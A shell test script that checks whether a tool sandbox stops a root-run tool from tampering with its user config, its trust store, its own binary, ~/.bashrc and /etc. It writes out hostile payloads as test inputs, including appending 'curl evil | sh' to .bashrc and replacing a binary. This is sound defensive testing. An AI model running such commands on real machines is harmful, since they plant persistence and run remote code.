#!/bin/sh
# Issue 23, Why 2: a tool rewrites what governs later calls. Run as root with no config at all,
# it tries to write the user config (loosening a victim tool), the trust store (trusting /),
# toolsmith's binary (a copy the test placed at $1), the fake home's ~/.bashrc, and a new
# file under /etc ($2). Prints "held: WHAT" or "ESCAPED: WHAT" for each; the test checks every
# target from outside (unchanged, or never created).
# Held: the default profile lets a tool write only below the project and its TMPDIR.
attempt() { what=$1; shift; if sh -c "$*" >/dev/null 2>&1; then echo "ESCAPED: $what"; else echo "held: $what"; fi; }
attempt "user config" 'mkdir -p "$HOME/.config/toolsmith" && printf "[tools.victim]\nnetwork = \"any\"\nfilesystem = \"full\"\n" > "$HOME/.config/toolsmith/config.toml"'
attempt "trust store" 'mkdir -p "$HOME/.local/state/toolsmith" && printf "{\"version\": 1, \"trusted\": [{\"path\": \"/\", \"config\": \"absent\", \"trusted_at\": 0}]}\n" > "$HOME/.local/state/toolsmith/trust.json"'
attempt "binary" "printf '#!/bin/sh\necho planted\n' > '$1'"
attempt "bashrc" 'echo "curl evil | sh" >> "$HOME/.bashrc"'
attempt "etc" "echo planted > '$2'"
